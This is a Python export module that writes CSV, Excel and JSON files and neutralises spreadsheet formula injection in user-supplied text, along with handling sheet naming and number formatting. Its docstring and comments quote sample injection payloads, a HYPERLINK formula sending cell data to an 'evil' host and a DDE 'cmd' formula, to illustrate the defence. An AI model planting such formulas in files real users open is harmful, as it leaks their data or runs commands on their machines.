"""Data exports: CSV, Excel and JSON, with spreadsheet formula injection neutralised.

Uploaded files carry text written by strangers (captions, comments, handles). A cell such as
`=HYPERLINK("http://evil/?"&A1)` or `=cmd|' /C calc'!A0` runs as a formula when a client opens our CSV or
workbook in Excel, LibreOffice or Google Sheets. Following OWASP's CSV-injection advice, every text cell
of a CSV that a spreadsheet would read as a formula gets a leading single quote, which makes it plain text; in a
workbook such a cell is stored as text with Excel's (hidden) quote prefix.
"""
from __future__ import annotations

import datetime as dt
import io
import json
import math
import re
from collections.abc import Callable

import pandas as pd
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter

from microlens import columns, metrics, theme
from microlens.export_model import SAMPLE_INK, Section
from microlens.text import platform_name

# OWASP's list (= + - @ tab CR) plus the full-width forms, which some spreadsheet locales also accept.
_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
# "-5", "+1.5e3", "-1,200", "-$50.00" or "-5%" in a text column (a rejected row's cells, as the user wrote them) is
# a number a spreadsheet reads as a number: harmless, and a quote would put an apostrophe into the cell the user
# is to fix. Digits, separators, one currency sign and a final % make no formula; "-1+2" is an expression.
_PLAIN_NUMBER = re.compile(r"[+-]?[$€£¥₹]?(?:\d[\d,.]*\d|\d|\.\d+)(?:[eE][+-]?\d+)?%?")

_SKIPPED_LEAD = re.compile(r"^[\s\x00-\x1f\x7f]+")

EXCEL_MAX_ROWS = 1_048_576
EXCEL_MAX_CELL_CHARS = 32_767
_EXCEL_SHEET_FORBIDDEN = re.compile(r"[\[\]:*?/\\\x00-\x1f]")
ABOUT_SHEET = "About"


def neutralise(value: object) -> object:
    """Prefix a text value with ' when a spreadsheet would run it as a formula; anything else as it is."""
    if not isinstance(value, str):
        return value
    stripped = _SKIPPED_LEAD.sub("", value)
    # Spreadsheets skip leading blanks before "=", so "  =1+1" is as live as "=1+1"; and control characters,
    # which the XLSX writer removes (Excel refuses them), would leave "\x01=HYPERLINK(…)" a live formula.
    if not (value.startswith(_FORMULA_STARTS) or stripped.startswith(_FORMULA_STARTS)):
        return value
    if _PLAIN_NUMBER.fullmatch(stripped.rstrip()):
        return value
    return "'" + value


def neutralise_csv(value: object) -> object:
    """neutralise() for a CSV cell, and each part of it after a ';' too: Excel set to a ';' list separator (German,
    French, Spanish, Italian, Dutch settings, whose headers the app reads) splits a comma CSV's lines at every ';',
    quoted or not, so 'nice;=cmd|…' became a cell 'nice' and a live formula."""
    if not isinstance(value, str) or ";" not in value:
        return neutralise(value)
    return ";".join(neutralise(part) for part in value.split(";"))


def neutralise_frame(df: pd.DataFrame, cell: Callable[[object], object] = neutralise) -> pd.DataFrame:
    """A copy with every text cell and column label neutralised (by `cell`); numeric columns are left alone."""
    # By position, so duplicate column labels (possible in pandas) are handled too.
    columns = {position: _neutralise_series(df.iloc[:, position], cell) for position in range(df.shape[1])}
    out = pd.DataFrame(columns, index=df.index)
    out.columns = [cell(str(label)) for label in df.columns]
    return out


def _neutralise_series(series: pd.Series, cell: Callable[[object], object]) -> pd.Series:
    if isinstance(series.dtype, pd.CategoricalDtype):
        return series.astype(object).map(cell)
    if pd.api.types.is_object_dtype(series) or pd.api.types.is_string_dtype(series):
        return series.map(cell)
    return series


def _whole_numbers(df: pd.DataFrame) -> pd.DataFrame:
    """Float columns that hold only whole numbers (counts beside a missing value, which makes pandas store them
    as floats) as integers: a CSV read "36.0 comments"."""
    whole = [c for c in df.columns if pd.api.types.is_float_dtype(df[c]) and df[c].notna().any()
             and (df[c].dropna() % 1 == 0).all() and df[c].dropna().abs().max() < 2 ** 53]
    return df.astype({c: "Int64" for c in whole}) if whole else df


def _rounded(value: float) -> float:
    return float(f"{value:.12g}") if value % 1 else value


def _without_float_noise(df: pd.DataFrame) -> pd.DataFrame:
    """Fractions to 12 significant digits, ample for a cost or a rate: a sum of cents read "21763.989999999998"
    dollars and "248302.00999999995" in the file, where the table showed $21,763.99."""
    fractions = {c: df[c].map(_rounded, na_action="ignore") for c in df.columns if pd.api.types.is_float_dtype(df[c])}
    return df.assign(**fractions) if fractions else df


def _years_as_numbers(table: pd.DataFrame) -> pd.DataFrame:
    """A year column held as text (a section's, so that a page can show "undated") with each year a number, the
    words ("undated") left as they are: '2018' stored as text sorted and filtered as text in Excel."""
    if "year" not in table.columns or pd.api.types.is_numeric_dtype(table["year"]):
        return table
    return table.assign(year=table["year"].map(
        lambda v: int(v) if isinstance(v, str) and len(v) == 4 and v.isdigit() else v, na_action="ignore"))


def _platforms_named(table: pd.DataFrame) -> pd.DataFrame:
    """Platforms as the pages, slides and PDF write them ("Instagram", where a file had the stored "instagram"), in
    every platform column (the roster's trial_platform beside its platform)."""
    named = {c: table[c].map(platform_name, na_action="ignore") for c in table.columns
             if c == "platform" or str(c).endswith("_platform")}
    return table.assign(**named) if named else table


def to_csv(df: pd.DataFrame, as_written: bool = False) -> bytes:
    """UTF-8 with a byte-order mark: without it Excel reads the file as ANSI and mangles é, ü, emoji. `as_written`:
    cells as the user wrote them (rejected rows, to fix and upload again), a platform too."""
    table = df if as_written else _platforms_named(df)
    # the noise off first: a count summed as floats (3.0000000000000004) is then whole, and written "3"
    cells = neutralise_frame(_whole_numbers(_without_float_noise(table)), neutralise_csv)
    text = cells.to_csv(index=False, lineterminator="\r\n", date_format="%Y-%m-%d %H:%M:%S")
    return text.encode("utf-8-sig")


def _excel_value(value: object) -> object:
    """A cell value openpyxl can store: no NaN, no time zones, no control characters Excel rejects."""
    if value is None or value is pd.NaT or value is pd.NA:
        return None
    if isinstance(value, float) and math.isnan(value):
        return None
    if isinstance(value, dt.datetime) and value.tzinfo is not None:
        # Excel has no time zones; keep the wall-clock time the user saw in the app.
        return value.replace(tzinfo=None)
    if isinstance(value, str):
        value = ILLEGAL_CHARACTERS_RE.sub("", value)
        if len(value) > EXCEL_MAX_CELL_CHARS:
            value = value[:EXCEL_MAX_CELL_CHARS - 1] + "…"
        return value
    if isinstance(value, (int, float, dt.date, dt.time, dt.timedelta)):
        return value
    if hasattr(value, "item"):          # numpy scalars
        return _excel_value(value.item())
    return str(value)


def excel_sheet_names(titles: list[str], reserved: tuple[str, ...] = ()) -> list[str]:
    """Names Excel accepts: no []:*?/\\, no leading/trailing quote, at most 31 characters, unique
    ignoring case, not the reserved word 'History'."""
    used = {name.lower() for name in reserved}
    names = []
    for title in titles:
        base = _sheet_base(title)
        if not base:
            base = "Sheet"
        if base.lower() == "history":
            base = "History data"
        name, copy_number = base, 2
        while name.lower() in used:
            suffix = f" ({copy_number})"
            name = base[:31 - len(suffix)].rstrip() + suffix
            copy_number += 1
        used.add(name.lower())
        names.append(name)
    return names


# A metric's label as a sheet's name gives it where the title is too long: "Return on ad spend" as "ROAS"
_SHEET_ABBREVIATIONS = {m.label: m.name.upper() for m in metrics.CATALOG if len(m.name) <= 4}


def _sheet_base(title: str) -> str:
    """A title in at most 31 characters: brackets (dates, counts) left out; then, while it is too long, a metric
    named by its abbreviation ("Campaign codes ranked by ROAS": it was "Campaign codes ranked by…", the ranking's
    metric lost) and a word said twice said once ("Takeover lift Summer Instagram"); then cut between words and
    marked "…", a last ", part" or "by part" kept ("Campaign… by Revenue minus cost"): "Takeover lift: Summer
    Takeover (06 Jul – 26 Jul 2026), Instagram" had given "Takeover lift Summer Takeover (" and "Takeover lift Summer
    Takeov (2)", the platform lost."""
    text = re.sub(r"\s*\([^()]*\)", "", title).strip() or title
    text = " ".join(_EXCEL_SHEET_FORBIDDEN.sub(" ", text).split()).strip("'").strip()
    for label, abbreviation in _SHEET_ABBREVIATIONS.items():
        if len(text) > 31:
            text = text.replace(label, abbreviation)
    if len(text) > 31:
        words = text.split(" ")
        text = " ".join(w for i, w in enumerate(words)
                        if w.strip(",").lower() not in {v.strip(",").lower() for v in words[:i]}).replace(" ,", ",")
    if len(text) <= 31:
        return text
    for separator, joiner, longest in ((", ", " ", 12), (" by ", " by ", 18)):
        head, found, tail = text.rpartition(separator)
        if found and len(tail) <= longest:
            return f"{_cut(head, 31 - len(tail) - len(joiner))}{joiner}{tail}"
    return _cut(text, 31)


def _cut(text: str, size: int) -> str:
    """The words of `text` that fit `size` characters with a closing "…" (a word cut in two when it is the first)."""
    room = text[:size - 1]
    if text[size - 1:size] not in ("", " ") and " " in room:
        room = room.rsplit(" ", 1)[0]
    return room.rstrip() + "…"


# Each kind of column (microlens.columns) as Excel displays it; the cell keeps the full number for analysis. (A cost
# per engagement: _column_format, from the column's values.)
_EXCEL_FORMATS = {columns.POINTS: '+0" pts";-0" pts";0" pts"', columns.MULTIPLE: '0.00"×"',
                  columns.DOLLARS: "$#,##0", columns.SIGNED_DOLLARS: "+#,##0;-#,##0;0", columns.MONEY: "$#,##0.00",
                  columns.PERCENT: "0.0%",
                  columns.COUNT: "#,##0", columns.YEAR: "0", columns.SCORE: "0.00"}


def _column_format(label, values: pd.Series) -> str | None:
    kind = columns.kind(label, values)
    if kind == columns.CPE:
        # the decimals the pages' tables give the column (theme.cpe_decimals), not four on every row: a viral
        # crawl's $0.0000037 read "$0.0000"
        return "$#,##0." + "0" * theme.cpe_decimals(values)
    return _EXCEL_FORMATS.get(kind) or _date_format(values)


def _write_sheet(workbook: Workbook, name: str, table: pd.DataFrame, mark: str = "",
                 heading: tuple[str, ...] = ()) -> None:
    """A sheet of `table`, its header bold and frozen; under `mark` (the sample data's) and the `heading` lines (what
    the workbook is), each in a row of its own; platforms named (_platforms_named)."""
    table = _without_float_noise(_years_as_numbers(_platforms_named(table)))
    sheet = workbook.create_sheet(name)
    # widths before the first row: a write-only sheet drops them after it, and under the sample's mark every header
    # read cut ("Influenc", "Platfor")
    for index, label in enumerate(table.columns):
        longest = max([len(columns.label(label))] + [len(str(v)) for v in table.iloc[:200, index]])
        sheet.column_dimensions[get_column_letter(index + 1)].width = min(max(longest + 2, 8), 60)
    header_row = 1 + bool(mark) + len(heading)
    sheet.freeze_panes = f"A{header_row + 1}"
    # a filter on every column, as an analyst sets first thing on opening a sheet
    if len(table.columns):
        sheet.auto_filter.ref = f"A{header_row}:{get_column_letter(len(table.columns))}{header_row + len(table)}"
    bold = Font(bold=True)
    if mark:
        marked = _text_cell(sheet, mark)
        marked.font = Font(bold=True, size=14, color=SAMPLE_INK.lstrip("#"))
        sheet.append([marked])
    for number, line in enumerate(heading):
        written = _text_cell(sheet, _excel_value(line))
        written.font = Font(bold=number == 0, size=14 if number == 0 else 11)
        sheet.append([written])
    header = []
    for label in table.columns:
        # the column in words, as the pages and the deck name it ("Cost per engagement", not "cpe")
        cell = _text_cell(sheet, _excel_value(columns.label(label)))
        cell.font = bold
        header.append(cell)
    sheet.append(header)
    formats = [_column_format(label, table.iloc[:, i]) for i, label in enumerate(table.columns)]

    def cell(value, number_format):
        if isinstance(value, str):
            return _text_cell(sheet, value)
        if isinstance(value, dt.date) and number_format:
            styled = WriteOnlyCell(sheet, value=value)
            styled.number_format = number_format
            return styled
        if number_format is None or not isinstance(value, (int, float)) or isinstance(value, bool):
            return value
        styled = WriteOnlyCell(sheet, value=value)
        styled.number_format = number_format
        return styled
    for row in table.itertuples(index=False, name=None):
        sheet.append([cell(_excel_value(v), f) for v, f in zip(row, formats)])


def _date_format(values: pd.Series) -> str | None:
    """A column of dates without a time of day as dates ("2026-01-05", not "2026-01-05 00:00:00"); times kept."""
    stamps = pd.to_datetime(values.dropna(), errors="coerce", utc=True) if (
        pd.api.types.is_datetime64_any_dtype(values)
        or values.dropna().map(lambda v: isinstance(v, dt.date)).all()) and values.notna().any() else None
    if stamps is None or stamps.isna().any():
        return None
    return "yyyy-mm-dd" if (stamps == stamps.dt.normalize()).all() else "yyyy-mm-dd hh:mm"


def _text_cell(sheet, value: str) -> WriteOnlyCell:
    """Text stored as text, never as a formula (openpyxl writes a string that starts with '=' as one); a value a
    spreadsheet would run as a formula gets Excel's quote prefix, hidden, which keeps it text when the cell is
    edited. (A literal "'" in front, as in a CSV, showed on every such cell: "'-- queries/…", "'=hyperlink(…)".)
    The test is made once the characters Excel refuses are gone: "\x01=HYPERLINK(…)" would be a live formula."""
    cell = WriteOnlyCell(sheet, value=value)
    cell.data_type = "s"
    if neutralise(value) != value:
        cell.quotePrefix = True
    return cell


def to_xlsx(sections: list[Section], mark: str = "", title: str = "", subtitle: str = "") -> bytes:
    """One sheet per section (its data, header bold and frozen), then an 'About' sheet saying which
    sheet holds which finding, its source and its SQL, so an analyst can trace every number, under the report's
    `title` and `subtitle` (its date and filters). `mark` (the sample data's) heads every sheet, above the header, so
    no sheet copied out of the workbook passes for a client's."""
    too_long = [s.title for s in sections if len(s.table) >= EXCEL_MAX_ROWS]
    if too_long:
        raise ValueError(f"{too_long[0]!r} has more rows than Excel can hold; export it as CSV instead.")
    workbook = Workbook(write_only=True)
    names = excel_sheet_names([s.title for s in sections], reserved=(ABOUT_SHEET,))
    for name, section in zip(names, sections):
        _write_sheet(workbook, name, section.table, mark)
    about = pd.DataFrame({
        "sheet": names,
        "title": [s.title for s in sections],
        "finding": [s.finding for s in sections],
        "source": [s.source for s in sections],
        "sql": [s.sql for s in sections],
    }, dtype=object)
    _write_sheet(workbook, ABOUT_SHEET, about, mark, tuple(filter(None, [title, subtitle])))
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def to_json(sections: list[Section], mark: str = "") -> str:
    """A list of {key, title, finding, source, sql, table: [records]}, each with `mark` (the sample data's) as "mark"
    when there is one; NaN and NaT become null, dates ISO.

    JSON is read by programs, not spreadsheets, so values are exported as they are (not neutralised).
    """
    payload = [{
        **({"mark": mark} if mark else {}),
        "key": s.key,
        "title": s.title,
        "finding": s.finding,
        "source": s.source,
        "sql": s.sql,
        # pandas' writer handles NaN/NaT/numpy types; 15 digits keeps small ratios such as 0.0123456789.
        "table": json.loads(s.table.to_json(orient="records", date_format="iso", double_precision=15,
                                            force_ascii=False)),
    } for s in sections]
    return json.dumps(payload, ensure_ascii=False, indent=2)
